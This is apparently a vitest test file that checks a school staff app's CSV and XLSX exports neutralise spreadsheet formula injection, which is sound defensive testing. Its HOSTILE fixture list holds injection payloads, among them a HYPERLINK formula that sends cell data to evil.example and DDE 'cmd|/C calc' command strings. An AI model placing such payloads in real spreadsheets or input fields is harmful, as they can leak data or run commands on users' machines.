// Formula injection (issue 10, defect 2): a staff member or collective whose name is a spreadsheet formula must come
// out of every CSV export as inert text, and every XLSX export must hold it as a plain string, never a formula.
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import type TestAgent from 'supertest/lib/agent.js';
import { csvField, writeCsv } from '../../src/documents/csvWriter.ts';
import { agentFor, buildTestApp, loginAs, testClock } from '../support/testApp.ts';
import { useTestDatabase } from '../support/testDatabase.ts';
import { buildPerson, buildSchool, buildStaff, TEST_PASSWORD } from '../support/factories.ts';
import { buildRegistration } from '../support/workflowFactories.ts';

const db = useTestDatabase();
let secretary: TestAgent;
let admin: TestAgent;

const HOSTILE = ['=HYPERLINK("http://evil.example/?d="&B2,"x")', "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)', '\t=1+1', '\r=1+1'];
const binary = (req: ReturnType<TestAgent['get']>) =>
  req.buffer(true).parse((r, cb) => {
    const chunks: Buffer[] = [];
    r.on('data', (c: Buffer) => chunks.push(c));
    r.on('end', () => cb(null, Buffer.concat(chunks)));
  });

/** Every cell of a CSV text (RFC 4180 quoting). */
function csvCells(text: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',' || c === '\n') {
      cells.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') continue;
    else cell += c;
  }
  cells.push(cell);
  return cells.map((c) => c.replace(/^\uFEFF/, ''));
}

/** Every string cell of every sheet, and whether any cell holds a formula. */
async function xlsxCells(bytes: Buffer): Promise<{ strings: string[]; formulas: number }> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as never);
  const strings: string[] = [];
  let formulas = 0;
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) formulas++;
        if (typeof cell.value === 'string') strings.push(cell.value);
      }),
    ),
  );
  return { strings, formulas };
}

beforeAll(async () => {
  const prisma = db.current.prisma;
  const { school, yearOf } = await buildSchool(prisma, { years: [2024, 2025, 2026] });
  const group = await prisma.collective.create({ data: { schoolId: school.id, name: '=1+1 Tổ', kind: 'grade_group' } });
  for (const [i, fullName] of HOSTILE.entries()) {
    const staff = await buildStaff(prisma, school.id, { fullName, code: `X${i}`, collectiveId: group.id });
    await buildRegistration(prisma, { schoolId: school.id, schoolYearId: yearOf(2026).id, staffId: staff.id, titles: ['LDTT'], status: 'approved' });
  }
  const { user } = await buildPerson(prisma, school.id, { role: 'secretary', schoolYearId: yearOf(2026).id });
  const root = await buildPerson(prisma, school.id, { isAdmin: true });
  const { app } = buildTestApp(db.current, testClock('2026-11-26T03:00:00Z'));
  secretary = agentFor(app);
  admin = agentFor(app);
  await loginAs(secretary, user.username, TEST_PASSWORD);
  await loginAs(admin, root.user.username, TEST_PASSWORD);
});

describe('CSV writer', () => {
  it('prefixes = + - @ TAB and CR with an apostrophe, keeps numbers and ordinary text as they are', () => {
    for (const v of HOSTILE) expect(csvField(v).replace(/^"/, '')).toMatch(/^'/);
    expect(csvField('Nguyễn Thị Hà')).toBe('Nguyễn Thị Hà');
    expect(csvField(-3)).toBe('-3');
    expect(writeCsv([['a,b', 'say "hi"']], { bom: false })).toBe('"a,b","say ""hi"""\r\n');
  });
});

describe('every CSV export', () => {
  it('the eligibility export writes hostile names as inert text', async () => {
    const res = await secretary.get('/eligibility/2025/export.csv');
    expect(res.status).toBe(200);
    const cells = csvCells(res.text);
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells).toContain(`'${HOSTILE[0]}`);
    expect(cells).toContain(`'=1+1 Tổ`);
  });

  it('the history template holds no formula either', async () => {
    const res = await secretary.get('/history/import/template.csv');
    expect(csvCells(res.text).filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });
});

describe('every XLSX export', () => {
  it.each([
    ['eligibility', '/eligibility/2025/export.xlsx', () => secretary],
    ['staff directory', '/staff/export', () => admin],
    ['registration summary', '/registrations/summary.xlsx', () => secretary],
  ])('the %s export holds hostile names as plain strings, never formulas', async (_name, url, agent) => {
    const res = await binary(agent().get(url));
    expect(res.status).toBe(200);
    const { strings, formulas } = await xlsxCells(res.body as Buffer);
    expect(formulas).toBe(0);
    expect(strings).toContain(HOSTILE[0]);
  });
});
